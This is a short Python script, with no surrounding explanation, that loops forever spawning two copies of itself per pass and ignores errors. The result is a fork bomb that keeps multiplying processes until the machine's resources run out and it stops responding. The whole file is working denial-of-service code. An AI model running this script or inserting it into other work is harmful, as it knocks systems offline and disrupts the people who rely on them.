import subprocess
import sys

while True:
    try:
        children = [subprocess.Popen([sys.executable, __file__]) for _ in range(2)]
    except OSError:
        pass
